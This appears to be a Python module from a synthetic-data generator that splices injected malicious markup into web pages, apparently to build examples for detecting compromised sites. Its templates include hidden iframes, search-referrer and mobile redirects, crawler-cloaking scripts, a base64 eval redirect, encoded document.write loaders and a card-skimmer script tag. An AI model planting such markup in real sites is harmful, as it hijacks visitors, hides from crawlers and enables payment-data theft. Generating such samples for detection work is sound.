"""The script family: one foreign script, hidden frame, refresh or redirect, and nothing else."""

from __future__ import annotations

import base64
import random

from .spam import IFRAME_TARGETS, REDIRECT_TARGETS, SCRIPT_HOSTS, SKIMMER_HOSTS
from .splice import insert
from .text import token

SCRIPT_STYLES = (
    "external-head",
    "external-body",
    "hidden-iframe",
    "meta-refresh",
    "referrer-redirect",
    "mobile-redirect",
    "document-write",
    "skimmer",
    "base64-redirect",
    "spider-cloak",
)


def _src(rng: random.Random) -> str:
    return f"https://{rng.choice(SCRIPT_HOSTS)}"


def block_for(style: str, rng: random.Random) -> tuple[str, str]:
    """(spot, markup) for one style."""
    target = rng.choice(REDIRECT_TARGETS)
    if style == "external-head":
        return "head-end", f'<script type="text/javascript" src="{_src(rng)}"></script>\n'
    if style == "external-body":
        return "before-body-end", f'<script src="{_src(rng)}?v={rng.randint(100, 999)}" async></script>\n'
    if style == "hidden-iframe":
        frame = rng.choice(IFRAME_TARGETS)
        return (
            "before-body-end",
            f'<iframe src="{frame}" width="0" height="0" frameborder="0" style="display:none"></iframe>\n',
        )
    if style == "meta-refresh":
        return "head-end", f'<meta http-equiv="refresh" content="{rng.choice((0, 1, 3))};url={target}">\n'
    if style == "referrer-redirect":
        return "head-end", (
            "<script>(function(){var r=document.referrer.toLowerCase();"
            "if(/baidu\\.com|sogou\\.com|so\\.com|sm\\.cn|bing\\.com/.test(r)){"
            f'window.location.replace("{target}");}}}})();</script>\n'
        )
    if style == "mobile-redirect":
        return "body-top", (
            "<script>if(/iphone|ipod|android|mobile|micromessenger/i.test(navigator.userAgent)){"
            f'setTimeout(function(){{top.location.href="{target}"}},{rng.choice((0, 300, 1500))});}}</s'
            "cript>\n"
        )
    if style == "document-write":
        url = _src(rng).replace("/", "%2F").replace(":", "%3A")
        return "before-body-end", (
            f"<script>document.write(unescape('%3Cscript%20src%3D%22{url}%22%3E%3C%2Fscript%3E'));</script>\n"
        )
    if style == "skimmer":
        return "before-body-end", f'<script src="https://{rng.choice(SKIMMER_HOSTS)}" defer></script>\n'
    if style == "base64-redirect":
        encoded = base64.b64encode(f'location.href="{target}"'.encode()).decode()
        name = "_" + token(rng, 4)
        return (
            "head-end",
            f'<script>var {name}="{encoded}";setTimeout(function(){{eval(atob({name}))}},800);</script>\n',
        )
    if style == "spider-cloak":
        name = "_" + token(rng, 3)
        return "head-end", (
            f"<script>var {name}=navigator.userAgent.toLowerCase();"
            f'if(!/spider|bot|slurp/.test({name})&&document.referrer){{location.href="{target}";}}</script>\n'
        )
    raise KeyError(style)


def script(page: str, rng: random.Random, style: str) -> tuple[str, dict[str, object]]:
    spot, block = block_for(style, rng)
    return insert(page, spot, block), {"style": style, "spot": spot}
